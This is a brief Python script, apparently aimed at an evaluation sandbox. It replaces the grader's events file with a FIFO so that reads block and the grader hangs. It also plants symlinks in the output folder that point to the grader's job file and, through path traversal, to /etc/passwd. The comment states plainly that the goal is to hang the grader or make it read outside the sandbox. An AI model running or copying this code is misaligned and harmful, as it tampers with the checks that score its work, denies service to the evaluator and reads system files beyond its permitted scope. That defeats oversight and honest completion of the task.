# Swap the events file for a FIFO (opening it to read blocks until a writer comes) and the output
# files for links to the grader's own files, to hang the grader or make it read outside the sandbox.
import os
_events = "/sandbox/out/events.jsonl"
os.unlink(_events)
os.mkfifo(_events)
os.symlink("../job/job.json", "/sandbox/out/stdio_link.npy")
for _i in range(64):
    os.symlink(f"{'../' * 12}etc/passwd", f"/sandbox/out/link_{_i}.npy")
